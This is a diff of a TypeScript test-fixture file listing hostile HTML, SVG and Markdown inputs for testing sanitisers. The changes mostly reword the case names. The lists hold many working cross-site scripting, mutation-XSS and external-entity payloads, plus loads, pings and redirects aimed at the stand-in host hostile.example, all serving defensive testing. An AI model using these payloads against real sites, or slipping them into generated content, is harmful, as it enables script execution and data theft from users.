@@ -1,6 +1,6 @@
-// Texts that try to run a script, to send something away or to leave the page. Whatever shows HTML, SVG or Markdown of
-// others is tested against all of them. A script that runs calls `hostile()`; what is fetched or navigated to lies at
-// hostile.example. The texts are our own; the sources are where the trick behind each is described.
+// Texts that try to run a script, to send data or to leave the page. Everything that renders untrusted HTML, SVG or Markdown
+// is tested against all of them. A script that runs calls `hostile()`; URLs that are fetched or navigated to are on
+// hostile.example. The texts are our own; the sources describe the technique of each.
 
 export interface HostileMarkup {
   readonly name: string;
@@ -24,19 +24,19 @@ type Row = readonly [name: string, source: string, markup: string];
 
 const rows = (list: readonly Row[]): readonly HostileMarkup[] => list.map(([name, source, markup]) => ({ name, source, markup }));
 
-/** HTML, as a page or a part of one. */
+/** HTML, a whole page or a part. */
 export const hostileHtml: readonly HostileMarkup[] = rows([
   // Scripts
   ['script', OWASP, '<script>hostile()</script>'],
-  ['script in capitals', OWASP, '<SCRIPT>hostile()</SCRIPT>'],
-  ['script from elsewhere', OWASP, '<script src="https://hostile.example/a.js"></script>'],
-  ['script from elsewhere without scheme', OWASP, '<script src=//hostile.example/a.js></script>'],
-  ['script with a slash for a space', OWASP, '<script/x>hostile()</script/x>'],
-  ['script with an attribute that closes', OWASP, '<script a=">">hostile()</script>'],
-  ['script without end', OWASP, '<script>hostile()//'],
-  ['script around a script', OWASP, '<scr<script>ipt>hostile()</scr</script>ipt>'],
-  ['script doubled for filters that remove once', OWASP, '<<script>hostile();//<</script>'],
-  ['script of a module', HTML, '<script type="module">hostile()</script>'],
+  ['script in uppercase', OWASP, '<SCRIPT>hostile()</SCRIPT>'],
+  ['script from another site', OWASP, '<script src="https://hostile.example/a.js"></script>'],
+  ['script from another site without scheme', OWASP, '<script src=//hostile.example/a.js></script>'],
+  ['script with a slash instead of a space', OWASP, '<script/x>hostile()</script/x>'],
+  ['script with > in an attribute', OWASP, '<script a=">">hostile()</script>'],
+  ['script without an end tag', OWASP, '<script>hostile()//'],
+  ['script nested in a script', OWASP, '<scr<script>ipt>hostile()</scr</script>ipt>'],
+  ['script nested for filters that remove once', OWASP, '<<script>hostile();//<</script>'],
+  ['module script', HTML, '<script type="module">hostile()</script>'],
   [
     'script of an import map',
     HTML,
@@ -44,9 +44,9 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ],
   ['script in noscript', HTML, '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>'],
   ['script in a template', HTML, '<template><script>hostile()</script></template>'],
-  ['script in a declared shadow', HTML, '<div><template shadowrootmode="open"><img src="x" onerror="hostile()"></template></div>'],
+  ['script in a declarative shadow root', HTML, '<div><template shadowrootmode="open"><img src="x" onerror="hostile()"></template></div>'],
 
-  // Handlers
+  // Event handlers
   ['handler of an image', OWASP, '<img src="x" onerror="hostile()">'],
   ['handler without quotes', OWASP, '<img src=x onerror=hostile()>'],
   ['handler in mixed case', OWASP, '<IMG SRC=x oNeRrOr=hostile()>'],
@@ -59,49 +59,49 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ['handler with quotes that do not match', OWASP, '<img """><img src=x onerror=hostile()>">'],
   ['handler of the body', OWASP, '<body onload=hostile()>'],
   ['handler of the page shown', PORTSWIGGER, '<body onpageshow=hostile()>'],
-  ['handler of a focus that comes by itself', PORTSWIGGER, '<input autofocus onfocus=hostile()>'],
+  ['handler of automatic focus', PORTSWIGGER, '<input autofocus onfocus=hostile()>'],
   ['handler of a focus on anything', PORTSWIGGER, '<x id=x tabindex=1 onfocus=hostile() autofocus></x>'],
-  ['handler of a detail that opens', HTML5SEC, '<details open ontoggle=hostile()><summary>x</summary></details>'],
+  ['handler of opening details', HTML5SEC, '<details open ontoggle=hostile()><summary>x</summary></details>'],
   ['handler of a popover', PORTSWIGGER, '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hostile()>x</div>'],
   ['handler of a video source', HTML5SEC, '<video><source onerror="hostile()"></video>'],
-  ['handler of an audio', HTML5SEC, '<audio src=x onerror=hostile()>'],
+  ['handler of audio', HTML5SEC, '<audio src=x onerror=hostile()>'],
   ['handler of a marquee', HTML5SEC, '<marquee onstart=hostile()>x</marquee>'],
   ['handler of an animation', PORTSWIGGER, '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=hostile()>x</p>'],
   ['handler of a transition', PORTSWIGGER, '<p style="transition:color 1s" ontransitionend=hostile()>x</p>'],
-  ['handler of a style that loads', PORTSWIGGER, '<style onload=hostile()></style>'],
+  ['handler of a loaded style', PORTSWIGGER, '<style onload=hostile()></style>'],
   ['handler of a pointer', OWASP, '<p onpointerenter=hostile() style="position:fixed;inset:0">x</p>'],
   ['handler of a click', OWASP, '<a href="#" onclick="hostile()">x</a>'],
   ['handler that does not exist yet', HTML, '<p onhostile=hostile()>x</p>'],
   ['handler on an unknown element', PORTSWIGGER, '<xss onclick="hostile()">x</xss>'],
 
-  // Addresses
-  ['address of a script', OWASP, '<a href="javascript:hostile()">x</a>'],
-  ['address of a script in capitals', OWASP, '<a href="JaVaScRiPt:hostile()">x</a>'],
-  ['address of a script with a tab', OWASP, '<a href="jav\tascript:hostile()">x</a>'],
-  ['address of a script with a tab as entity', OWASP, '<a href="jav&#x09;ascript:hostile()">x</a>'],
-  ['address of a script with named entities', OWASP, '<a href="javascript&colon;hostile&lpar;&rpar;">x</a>'],
-  ['address of a script with new lines', OWASP, '<a href="java\nscr\nipt:hostile()">x</a>'],
-  ['address of a script after controls', OWASP, '<a href="\u0001\u0002 javascript:hostile()">x</a>'],
-  ['address of a script behind a comment', OWASP, '<a href="javascript://%0ahostile()">x</a>'],
-  ['address of a script for VBScript', OWASP, '<a href="vbscript:hostile()">x</a>'],
-  ['address with a page in it', OWASP, '<a href="data:text/html,<script>hostile()</script>">x</a>'],
-  ['address with a page in Base64', OWASP, '<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">x</a>'],
-  ['address of an image as script', OWASP, '<img src="javascript:hostile()">'],
-  ['address of an area', HTML5SEC, '<map name=m><area href="javascript:hostile()" shape=default></map><img usemap=#m src=x>'],
-  ['address sent when a link is followed', HTML, '<a href="#" ping="https://hostile.example/ping">x</a>'],
-  ['address without scheme', OWASP, '<a href="//hostile.example/">x</a>'],
+  // URLs
+  ['script URL', OWASP, '<a href="javascript:hostile()">x</a>'],
+  ['script URL in uppercase', OWASP, '<a href="JaVaScRiPt:hostile()">x</a>'],
+  ['script URL with a tab', OWASP, '<a href="jav\tascript:hostile()">x</a>'],
+  ['script URL with a tab as entity', OWASP, '<a href="jav&#x09;ascript:hostile()">x</a>'],
+  ['script URL with named entities', OWASP, '<a href="javascript&colon;hostile&lpar;&rpar;">x</a>'],
+  ['script URL with line breaks', OWASP, '<a href="java\nscr\nipt:hostile()">x</a>'],
+  ['script URL after control characters', OWASP, '<a href="\u0001\u0002 javascript:hostile()">x</a>'],
+  ['script URL after a comment', OWASP, '<a href="javascript://%0ahostile()">x</a>'],
+  ['script URL for VBScript', OWASP, '<a href="vbscript:hostile()">x</a>'],
+  ['URL with a page in it', OWASP, '<a href="data:text/html,<script>hostile()</script>">x</a>'],
+  ['URL with a page in Base64', OWASP, '<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">x</a>'],
+  ['image with a script URL', OWASP, '<img src="javascript:hostile()">'],
+  ['URL of an area', HTML5SEC, '<map name=m><area href="javascript:hostile()" shape=default></map><img usemap=#m src=x>'],
+  ['URL sent when a link is followed', HTML, '<a href="#" ping="https://hostile.example/ping">x</a>'],
+  ['URL without scheme', OWASP, '<a href="//hostile.example/">x</a>'],
 
   // Frames and plug-ins
   ['frame of a script', OWASP, '<iframe src="javascript:parent.hostile()"></iframe>'],
   ['frame with a page in it', HTML5SEC, '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>'],
   ['frame with entities in it', HTML5SEC, '<iframe srcdoc="&lt;img src=x onerror=parent.hostile()&gt;"></iframe>'],
-  ['frame from elsewhere', OWASP, '<iframe src="https://hostile.example/"></iframe>'],
+  ['frame from another site', OWASP, '<iframe src="https://hostile.example/"></iframe>'],
   ['frame that hides a handler', HTML5SEC, '<iframe onload=hostile()></iframe>'],
   ['frameset', OWASP, '<frameset><frame src="javascript:parent.hostile()"></frameset>'],
   ['object', OWASP, '<object data="javascript:hostile()"></object>'],
-  ['object from elsewhere', OWASP, '<object data="https://hostile.example/a.html"></object>'],
+  ['object from another site', OWASP, '<object data="https://hostile.example/a.html"></object>'],
   ['embed', OWASP, '<embed src="javascript:hostile()">'],
-  ['embed from elsewhere', OWASP, '<embed src="https://hostile.example/a.swf">'],
+  ['embed from another site', OWASP, '<embed src="https://hostile.example/a.swf">'],
   ['applet', OWASP, '<applet code="https://hostile.example/a.class"></applet>'],
   ['portal', PORTSWIGGER, '<portal src="https://hostile.example/"></portal>'],
 
@@ -112,17 +112,13 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ['form by an image', HTML5SEC, '<form><input type=image src=x formaction="javascript:hostile()"></form>'],
   ['form names that hide properties', PORTSWIGGER, '<form><input name=attributes><input name=parentNode><img src=x onerror=hostile()></form>'],
 
-  // What the head may say
+  // Elements of the head
   ['refresh', OWASP, '<meta http-equiv="refresh" content="0;url=https://hostile.example/">'],
   ['refresh to a script', OWASP, '<meta http-equiv="refresh" content="0;url=javascript:hostile()">'],
   ['refresh to a page in itself', OWASP, '<meta http-equiv="refresh" content="0;url=data:text/html,<script>hostile()</script>">'],
   ['base', OWASP, '<base href="https://hostile.example/"><img src="a.png">'],
   ['base of a script', OWASP, '<base href="javascript:hostile();//"><a href="#">x</a>'],
-  [
-    'policy of its own',
-    HTML,
-    '<meta http-equiv="Content-Security-Policy" content="img-src https://hostile.example/"><img src="https://hostile.example/a.png">',
-  ],
+  ['own policy', HTML, '<meta http-equiv="Content-Security-Policy" content="img-src https://hostile.example/"><img src="https://hostile.example/a.png">'],
   ['style sheet', OWASP, '<link rel="stylesheet" href="https://hostile.example/a.css">'],
   ['style sheet of a script', OWASP, '<link rel="stylesheet" href="javascript:hostile()">'],
   ['preload', HTML, '<link rel="preload" as="image" href="https://hostile.example/a.png">'],
@@ -130,24 +126,24 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ['prefetch of a name', HTML, '<link rel="dns-prefetch" href="//hostile.example">'],
   ['manifest', HTML, '<link rel="manifest" href="https://hostile.example/a.json">'],
 
-  // What is fetched without a script
+  // Fetched without a script
   ['image', HTML, '<img src="https://hostile.example/a.png">'],
-  ['image in sizes', HTML, '<img srcset="https://hostile.example/a.png 1x" src="">'],
-  ['image of a picture', HTML, '<picture><source srcset="https://hostile.example/a.png"><img src=""></picture>'],
+  ['image in srcset', HTML, '<img srcset="https://hostile.example/a.png 1x" src="">'],
+  ['image of a picture element', HTML, '<picture><source srcset="https://hostile.example/a.png"><img src=""></picture>'],
   ['image of a low source', HTML5SEC, '<img lowsrc="https://hostile.example/a.png" dynsrc="https://hostile.example/b.png">'],
-  ['image behind a table', OWASP, '<table background="https://hostile.example/a.png"><td background="https://hostile.example/b.png">x</table>'],
-  ['image behind the body', OWASP, '<body background="https://hostile.example/a.png">'],
+  ['background image of a table', OWASP, '<table background="https://hostile.example/a.png"><td background="https://hostile.example/b.png">x</table>'],
+  ['background image of the body', OWASP, '<body background="https://hostile.example/a.png">'],
   ['image of an input', OWASP, '<input type="image" src="https://hostile.example/a.png">'],
   ['video', HTML, '<video src="https://hostile.example/a.mp4" poster="https://hostile.example/a.png" autoplay></video>'],
   ['audio', HTML, '<audio src="https://hostile.example/a.mp3" autoplay></audio>'],
   ['track', HTML, '<video><track default src="https://hostile.example/a.vtt"></video>'],
 
   // Styles
-  ['style with an address', CSS, '<p style="background:url(https://hostile.example/a.png)">x</p>'],
-  ['style with an address in escapes', CSS, '<p style="background:\\75\\72\\6c(https://hostile.example/a.png)">x</p>'],
+  ['style with a URL', CSS, '<p style="background:url(https://hostile.example/a.png)">x</p>'],
+  ['style with a URL in escapes', CSS, '<p style="background:\\75\\72\\6c(https://hostile.example/a.png)">x</p>'],
   ['style with an image set', CSS, '<p style="background:image-set(\'https://hostile.example/a.png\' 1x)">x</p>'],
   ['style with a cursor', CSS, '<p style="cursor:url(https://hostile.example/a.cur),auto">x</p>'],
-  ['style with a list mark', CSS, '<ul style="list-style:url(https://hostile.example/a.png)"><li>x</ul>'],
+  ['style with a list marker', CSS, '<ul style="list-style:url(https://hostile.example/a.png)"><li>x</ul>'],
   ['style with content', CSS, '<style>p::after{content:url(https://hostile.example/a.png)}</style><p>x</p>'],
   ['style that imports', CSS, '<style>@import "https://hostile.example/a.css";</style>'],
   ['style with a font', CSS, '<style>@font-face{font-family:f;src:url(https://hostile.example/a.woff2)}p{font-family:f}</style><p>x</p>'],
@@ -156,7 +152,7 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ['style with a binding', OWASP, '<p style="-moz-binding:url(https://hostile.example/a.xml#a)">x</p>'],
   ['style that covers the page', OWASP, '<a href="https://hostile.example/" style="position:fixed;inset:0;z-index:9999">x</a>'],
 
-  // What changes when it is read twice
+  // Mutations when parsed twice
   ['mutation by MathML and a table', MUTATION, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile()&gt;">'],
   ['mutation by a form', MUTATION, '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hostile()>'],
   ['mutation by SVG and a style', MUTATION, '<svg></p><style><a id="</style><img src=x onerror=hostile()>">'],
@@ -164,7 +160,7 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ['mutation by noembed', MUTATION, '<noembed><img title="</noembed><img src=x onerror=hostile()>"></noembed>'],
   ['mutation by xmp', MUTATION, '<xmp><p title="</xmp><img src=x onerror=hostile()>"></xmp>'],
   ['mutation by plain text', MUTATION, '<plaintext><p title="</plaintext><img src=x onerror=hostile()>">'],
-  ['mutation by a text area', MUTATION, '<textarea><p title="</textarea><img src=x onerror=hostile()>"></textarea>'],
+  ['mutation by a textarea', MUTATION, '<textarea><p title="</textarea><img src=x onerror=hostile()>"></textarea>'],
   ['mutation by a select', MUTATION, '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hostile()>">'],
   [
     'mutation by an annotation',
@@ -173,10 +169,10 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ],
   ['mutation by foreign content', MUTATION, '<svg><foreignObject><p><style><!--</style><p title="--><img src=x onerror=hostile()>"></foreignObject></svg>'],
   ['mutation by grave accents', MUTATION, '<img alt="``onerror=hostile()" src=x>'],
-  ['mutation by a character reference without end', MUTATION, '<p title="&lt;img src=x onerror=hostile()&gt">x</p>'],
+  ['mutation by a character reference without an end tag', MUTATION, '<p title="&lt;img src=x onerror=hostile()&gt">x</p>'],
   ['mutation by depth', MUTATION, `${'<div>'.repeat(520)}<style><p title="</style><img src=x onerror=hostile()>">`],
 
-  // Nesting that is no nesting
+  // Invalid nesting
   ['comment that ends early', OWASP, '<!--><img src=x onerror=hostile()>-->'],
   ['comment that ends with an exclamation mark', HTML, '<!-- --!><img src=x onerror=hostile()>-->'],
   ['comment for old browsers', OWASP, '<!--[if gte IE 4]><script>hostile()</script><![endif]-->'],
@@ -185,7 +181,7 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
   ['title that ends', OWASP, '</title><script>hostile()</script>'],
   ['attribute that ends', OWASP, '"><script>hostile()</script>'],
   ['attribute that ends in single quotes', OWASP, "'><img src=x onerror=hostile()>"],
-  ['element without end', OWASP, '<img src=x onerror=hostile() '],
+  ['element without an end tag', OWASP, '<img src=x onerror=hostile() '],
   ['end tag with attributes', HTML, '</p onclick=hostile()><img src=x onerror=hostile()>'],
   ['link in a link', HTML, '<a href="https://hostile.example/"><a href="javascript:hostile()">x</a></a>'],
   ['table that lets out', HTML, '<table><img src=x onerror=hostile()><tr><td></table>'],
@@ -201,13 +197,13 @@ export const hostileHtml: readonly HostileMarkup[] = rows([
 const svg = (inside: string, attributes = ''): string =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"${attributes}>${inside}</svg>`;
 
-/** SVG documents. All but those named so are well-formed XML. */
+/** SVG documents. All are well-formed XML unless their name says otherwise. */
 export const hostileSvg: readonly HostileMarkup[] = rows([
   ['svg script', SVG, svg('<script>hostile()</script>')],
   ['svg script with its language', SVG, svg('<script type="text/ecmascript"><![CDATA[hostile()]]></script>')],
-  ['svg script from elsewhere', SVG, svg('<script href="https://hostile.example/a.js"/>')],
-  ['svg script from elsewhere, the old way', SVG, svg('<script xlink:href="https://hostile.example/a.js"/>')],
-  ['svg script in an address', HTML5SEC, svg('<script href="data:text/javascript,hostile()"/>')],
+  ['svg script from another site', SVG, svg('<script href="https://hostile.example/a.js"/>')],
+  ['svg script from another site, the old way', SVG, svg('<script xlink:href="https://hostile.example/a.js"/>')],
+  ['svg script in a URL', HTML5SEC, svg('<script href="data:text/javascript,hostile()"/>')],
   ['svg handler', HTML5SEC, svg('<rect width="10" height="10"/>', ' onload="hostile()"')],
   ['svg handler of a part', SVG, svg('<rect width="10" height="10" onclick="hostile()" onfocusin="hostile()" tabindex="0"/>')],
   ['svg handler of an image', SVG, svg('<image href="https://hostile.example/x" onerror="hostile()"/>')],
@@ -235,25 +231,25 @@ export const hostileSvg: readonly HostileMarkup[] = rows([
     svg('<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://hostile.example/"/></foreignObject>'),
   ],
   [
-    'svg use of a page in an address',
+    'svg use of a page in a URL',
     HTML5SEC,
     svg("<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='hostile()'/&gt;&lt;/svg&gt;#x\"/>"),
   ],
-  ['svg use from elsewhere', SVG, svg('<use href="https://hostile.example/a.svg#x"/>')],
-  ['svg image from elsewhere', SVG, svg('<image href="https://hostile.example/a.png" width="10" height="10"/>')],
-  ['svg image from elsewhere, the old way', SVG, svg('<image xlink:href="https://hostile.example/a.png" width="10" height="10"/>')],
+  ['svg use from another site', SVG, svg('<use href="https://hostile.example/a.svg#x"/>')],
+  ['svg image from another site', SVG, svg('<image href="https://hostile.example/a.png" width="10" height="10"/>')],
+  ['svg image from another site, the old way', SVG, svg('<image xlink:href="https://hostile.example/a.png" width="10" height="10"/>')],
   [
-    'svg filter from elsewhere',
+    'svg filter from another site',
     SVG,
     svg('<filter id="f"><feImage href="https://hostile.example/a.png"/></filter><rect width="10" height="10" filter="url(#f)"/>'),
   ],
   [
-    'svg paint from elsewhere',
+    'svg paint from another site',
     SVG,
     svg('<rect width="10" height="10" fill="url(https://hostile.example/a.svg#p)" mask="url(https://hostile.example/b.svg#m)"/>'),
   ],
   ['svg style that imports', CSS, svg('<style>@import url(https://hostile.example/a.css);</style>')],
-  ['svg style with an address', CSS, svg('<rect width="10" height="10" style="filter:url(https://hostile.example/a.svg#f)"/>')],
+  ['svg style with a URL', CSS, svg('<rect width="10" height="10" style="filter:url(https://hostile.example/a.svg#f)"/>')],
   [
     'svg style with a font',
     CSS,
@@ -261,15 +257,15 @@ export const hostileSvg: readonly HostileMarkup[] = rows([
   ],
   ['svg style sheet before the root', SVG, `<?xml-stylesheet href="https://hostile.example/a.css" type="text/css"?>${svg('')}`],
   ['svg handler by an entity', HTML5SEC, `<!DOCTYPE svg [<!ENTITY h "hostile()">]>${svg('', ' onload="&h;"')}`],
-  ['svg entity from elsewhere', 'XML 1.0, 4.2.2', `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://hostile.example/a">]>${svg('<text y="9">&x;</text>')}`],
-  ['svg type from elsewhere', 'XML 1.0, 4.2.2', `<!DOCTYPE svg SYSTEM "https://hostile.example/a.dtd">${svg('')}`],
+  ['svg entity from another site', 'XML 1.0, 4.2.2', `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://hostile.example/a">]>${svg('<text y="9">&x;</text>')}`],
+  ['svg type from another site', 'XML 1.0, 4.2.2', `<!DOCTYPE svg SYSTEM "https://hostile.example/a.dtd">${svg('')}`],
   ['svg handler for DOM events', 'SVG Tiny 1.2', svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hostile()</handler>')],
-  ['svg that is no XML', HTML5SEC, '<svg/onload=hostile()>'],
+  ['svg that is not XML', HTML5SEC, '<svg/onload=hostile()>'],
   ['svg that leaves itself', MUTATION, '<svg><style></svg><img src=x onerror=hostile()></style></svg>'],
   ['svg that is a page', HTML5SEC, '<html xmlns="http://www.w3.org/1999/xhtml"><script>hostile()</script></html>'],
 ]);
 
-/** Markdown, whose own marks make the addresses and the attributes. */
+/** Markdown whose own syntax creates the URLs and attributes. */
 export const hostileMarkdown: readonly HostileMarkup[] = rows([
   ['link of a script', OWASP, '[x](javascript:hostile())'],
   ['link of a script in mixed case', OWASP, '[x](JaVaScRiPt:hostile())'],
@@ -290,9 +286,9 @@ export const hostileMarkdown: readonly HostileMarkup[] = rows([
   ['link to a blob', HTML, '[x](blob:https://hostile.example/1)'],
   ['link by reference', 'CommonMark 0.31, 6.3', '[x][y]\n\n[y]: javascript:hostile()'],
   ['link by reference that comes first', 'CommonMark 0.31, 4.7', '[x]: javascript:hostile()\n\n[x]'],
-  ['link by itself', 'CommonMark 0.31, 6.5', '<javascript:hostile()>'],
-  ['link by itself in capitals', 'CommonMark 0.31, 6.5', '<JAVASCRIPT:hostile()>'],
-  ['link by itself with a page in it', 'CommonMark 0.31, 6.5', '<data:text/html,hostile>'],
+  ['autolink', 'CommonMark 0.31, 6.5', '<javascript:hostile()>'],
+  ['autolink in uppercase', 'CommonMark 0.31, 6.5', '<JAVASCRIPT:hostile()>'],
+  ['autolink with a page in it', 'CommonMark 0.31, 6.5', '<data:text/html,hostile>'],
   ['link with a handler in its title', OWASP, '[x](https://example.com "\\" onmouseover=\\"hostile()")'],
   ['link with a handler in its address', OWASP, '[x](" onmouseover="hostile())'],
   ['link found in the text, with a quote', 'GitHub Flavored Markdown, 6.9', 'https://example.com/"onmouseover="hostile()'],
@@ -316,12 +312,12 @@ export const hostileMarkdown: readonly HostileMarkup[] = rows([
   ['footnote with an element for a name', 'GitHub, footnotes', 'x[^<img src=x onerror=hostile()>]\n\n[^<img src=x onerror=hostile()>]: y'],
   ['footnote with a handler for a name', 'GitHub, footnotes', 'x[^"onmouseover="hostile()]\n\n[^"onmouseover="hostile()]: y'],
   ['HTML in entities', 'CommonMark 0.31, 2.5', '&lt;script&gt;hostile()&lt;/script&gt; &#60;img src=x onerror=hostile()&#62;'],
-  ['HTML block without end', 'CommonMark 0.31, 4.6', '<script\nhostile()'],
+  ['HTML block without an end tag', 'CommonMark 0.31, 4.6', '<script\nhostile()'],
   ['HTML over paragraphs', 'CommonMark 0.31, 4.6', '<div\n\nonclick="hostile()"\n\n><img src=x onerror=hostile()>'],
   ['null characters', 'CommonMark 0.31, 2.3', '\u0000<scr\u0000ipt>hostile()</script>'],
 ]);
 
-/** Places of a Markdown text in which HTML may stand, or seem to. */
+/** Positions in a Markdown text where HTML may be, or seem to be. */
 const PLACES: readonly ((html: string) => string)[] = [
   (html) => html,
   (html) => `a ${html} b`,
@@ -335,7 +331,7 @@ const PLACES: readonly ((html: string) => string)[] = [
   (html) => `\`\`\`${html}\n${html}\n\`\`\``,
 ];
 
-/** Everything that is hostile in Markdown: its own tricks, and HTML and SVG in every place. */
+/** Everything hostile in Markdown: its own techniques, and HTML and SVG in every position. */
 export const allHostileMarkdown: readonly HostileMarkup[] = [
   ...hostileMarkdown,
   ...[...hostileHtml, ...hostileSvg].flatMap(({ name, source, markup }) =>
